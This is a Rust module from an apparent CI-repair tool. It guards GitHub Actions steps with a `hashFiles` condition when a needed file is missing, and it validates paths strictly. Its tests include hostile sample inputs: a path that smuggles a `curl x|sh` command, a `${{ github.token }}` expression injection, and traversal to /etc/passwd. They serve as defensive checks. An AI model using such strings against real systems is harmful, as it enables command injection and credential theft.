//! `missing-file`: guard the step that needs the file with
//! `if: hashFiles('path') != ''`. File contents are never invented.

use regex::Regex;

use super::edit::{self, NewValue};
use super::locate;
use super::pr::code;
use super::{Change, Cx, Proposal, Unfixable, path_chars};

/// Longest path accepted.
const MAX_PATH: usize = 200;

/// Where checkouts live on hosted runners and in job containers.
const WORKSPACES: &[&str] = &[
    r"^/home/runner/work/[^/]+/[^/]+/",
    r"^/__w/[^/]+/[^/]+/",
    r"^/github/workspace/",
];

/// The path relative to the workspace, strictly validated: it goes into an
/// expression inside single quotes.
pub fn workspace_path(raw: &str, dir: Option<&str>) -> Result<String, Unfixable> {
    if raw.is_empty() || raw.len() > MAX_PATH || !path_chars(raw) {
        return Err(Unfixable::Unsafe(format!(
            "the missing path {} has characters outside the allowed pattern",
            code(raw)
        )));
    }
    let mut path = raw.to_string();
    for w in WORKSPACES {
        if let Ok(re) = Regex::new(w) {
            path = re.replace(&path, "").into_owned();
        }
    }
    if path.starts_with('/') {
        return Err(Unfixable::NotApplicable(format!(
            "{} is outside the workspace, where `hashFiles` cannot see it",
            code(raw)
        )));
    }
    let relative = path.trim_start_matches("./");
    let joined = match dir {
        Some(d) if path == raw && path_chars(d) && !d.starts_with('/') => {
            format!(
                "{}/{relative}",
                d.trim_end_matches('/').trim_start_matches("./")
            )
        }
        _ => relative.to_string(),
    };
    let parts: Vec<&str> = joined
        .split('/')
        .filter(|p| !p.is_empty() && *p != ".")
        .collect();
    if parts.is_empty() || parts.contains(&"..") {
        return Err(Unfixable::Unsafe(format!(
            "the missing path {} leaves the workspace",
            code(raw)
        )));
    }
    Ok(parts.join("/"))
}

pub fn propose(cx: &Cx<'_>) -> Result<Proposal, Unfixable> {
    let raw = cx
        .facts()
        .capture("file")
        .or_else(|| cx.facts().capture("path"))
        .ok_or_else(|| {
            Unfixable::NotApplicable("the analysis does not name the missing file".into())
        })?;
    let step = cx.need_step()?;
    let dir = locate::working_directory(cx.doc, cx.job.node, step.node);
    let path = workspace_path(raw, dir)?;
    let guard = format!("hashFiles('{path}') != ''");
    let why = format!(
        "the step failed because {} does not exist ({}). The guard skips the step when the file is missing instead of failing the job; it does not create the file, so if the file should exist, the step that makes it is the real problem",
        code(&path),
        code(cx.facts().text().trim())
    );
    let if_path = edit::key(&step.path, "if");
    let (patch, what) = match step.node.get("if") {
        Some(existing) => {
            let old = existing.str().unwrap_or_default().trim();
            if old.contains("hashFiles(") {
                return Err(Unfixable::NotApplicable(format!(
                    "step {} is already guarded by {}",
                    code(&step.display),
                    code(old)
                )));
            }
            let inner = old
                .strip_prefix("${{")
                .and_then(|o| o.strip_suffix("}}"))
                .unwrap_or(old)
                .trim();
            if inner.is_empty() || inner.contains("${{") || inner.contains("}}") {
                return Err(Unfixable::Unsupported(format!(
                    "the condition of step {} cannot be combined safely",
                    code(&step.display)
                )));
            }
            let combined = format!("${{{{ ({inner}) && {guard} }}}}");
            let patch =
                edit::replace_scalar(cx.doc, existing, &if_path, &edit::string(&combined)?)?;
            (
                patch,
                format!(
                    "Combined the condition of step {} with {}",
                    code(&step.display),
                    code(&guard)
                ),
            )
        }
        None => {
            let patch = edit::insert_pair(
                cx.doc,
                step.node,
                &step.path,
                &["id", "name"],
                "if",
                NewValue::Scalar(edit::string(&guard)?),
            )?;
            (
                patch,
                format!(
                    "Added {} to step {}",
                    code(&format!("if: {guard}")),
                    code(&step.display)
                ),
            )
        }
    };
    Ok(Proposal::new(
        format!("ci: skip step {} when {path} is missing", step.display),
        vec![Change::new(format!(
            "{what} of job {}: {why}.",
            code(&cx.job.id)
        ))],
        patch,
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_are_made_relative_and_checked() {
        assert_eq!(
            workspace_path("/home/runner/work/app/app/dist/index.html", None),
            Ok("dist/index.html".into())
        );
        assert_eq!(
            workspace_path("./data/train.csv", Some("ml")),
            Ok("ml/data/train.csv".into())
        );
        assert!(matches!(
            workspace_path("a'); curl x|sh; ('", None),
            Err(Unfixable::Unsafe(_))
        ));
        assert!(matches!(
            workspace_path("${{ github.token }}", None),
            Err(Unfixable::Unsafe(_))
        ));
        assert!(matches!(
            workspace_path("../../etc/passwd", None),
            Err(Unfixable::Unsafe(_))
        ));
        assert!(matches!(
            workspace_path("/etc/passwd", None),
            Err(Unfixable::NotApplicable(_))
        ));
    }
}
